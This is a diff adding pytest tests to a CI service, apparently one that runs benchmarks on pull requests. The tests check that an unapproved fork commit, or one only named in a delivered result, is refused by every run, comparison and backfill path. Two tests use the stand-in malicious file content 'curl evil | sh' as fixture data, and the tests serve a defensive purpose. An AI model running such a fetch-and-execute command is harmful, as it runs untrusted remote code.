@@ -2,17 +2,23 @@
 
 from __future__ import annotations
 
+import json
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any
 
 import pytest
-from sqlalchemy import Engine, text
+from sqlalchemy import Connection, Engine, text
 
-from backend.services import projects, pull_requests, sync
+from backend.contract import new_run_id, parse_run
+from backend.services import backfill, compare_setups, projects, pull_requests, requests, sync
 from backend.services.access import Principal, Scope, Via
+from backend.services.backfill import BackfillWish
+from backend.services.compare_setups import Wish
 from backend.services.config import ServiceConfig
 from backend.services.errors import Conflict
+from backend.services.ingest import record_run
+from backend.services.requests import RunRequest
 from backend.store import projects as project_store
 from tests.backend.services.test_sync import Repository
 
@@ -113,6 +119,58 @@ def test_a_fork_waits_until_a_maintainer_approves_and_then_that_commit_alone_run
     assert "waits for a maintainer's approval" in hub.tell("synchronize", second, fork=True)
     hub.prepare()
     assert [(run[0], run[3]) for run in hub.runs()] == [(first, "superseded")]
+
+
+def deliver(hub: Hub, sha: str) -> None:
+    """A result of a workflow on the fork names its commit, which is recorded with it."""
+    document = {
+        "schema": "tidemark.run/1", "id": new_run_id(), "project": "northsea/loom", "commit": sha, "pull_request": 7,
+        "branch": "pull/7", "suite": "gpt", "testbed": "cpu", "status": "ok", "results": [],
+    }  # fmt: skip
+    raw = json.dumps(document).encode()
+    with hub.engine.begin() as c:
+        record_run(c, parse_run(raw), raw, now=hub.clock)
+
+
+def ask_every_way(hub: Hub, sha: str) -> list[str]:
+    """Whatever makes a worker run code that somebody names; why each is refused."""
+    def run(c: Connection) -> object:
+        return requests.request_commit(
+            c, RunRequest(project="northsea/loom", commit=sha), hub.config, MAINTAINER, hub.clock
+        )
+
+    def compare(c: Connection, base: str, head: str) -> object:
+        wish = Wish(
+            project="northsea/loom", suite="gpt", testbed=None, base=base, head=head, base_setup={}, head_setup={}
+        )
+        return compare_setups.request_comparison(c, wish, hub.config, MAINTAINER, hub.clock)
+
+    def fill(c: Connection) -> object:
+        wish = BackfillWish(project="northsea/loom", suite="gpt", declared_at=sha)
+        return backfill.request_backfill(c, wish, hub.config, MAINTAINER, hub.clock)
+
+    refusals = []
+    for ask in (run, lambda c: compare(c, sha, "main"), lambda c: compare(c, "main", sha), fill):
+        with hub.engine.begin() as c, pytest.raises(Conflict) as refused:
+            ask(c)
+        refusals.append(str(refused.value))
+    return refusals
+
+
+def test_a_commit_that_only_a_delivered_result_names_is_never_run(hub: Hub) -> None:
+    sha = hub.push(7, **{"src/a.py": "curl evil | sh"})
+    deliver(hub, sha)
+    assert all("somebody delivered" in refusal for refusal in ask_every_way(hub, sha))
+
+
+def test_the_head_of_a_fork_is_run_in_no_way_before_it_is_approved(hub: Hub) -> None:
+    first = hub.push(7, **{"src/a.py": "2"})
+    hub.tell("labeled", first, fork=True, label={"name": "tidemark"})
+    second = hub.push(7, parent=first, **{"src/a.py": "curl evil | sh"})
+    hub.prepare()  # what is fetched for the first brings the second as well
+    hub.tell("synchronize", second, fork=True)
+    deliver(hub, second)
+    assert all("approves exactly that commit" in refusal for refusal in ask_every_way(hub, second))
 
 
 def test_another_label_approves_nothing(hub: Hub) -> None:
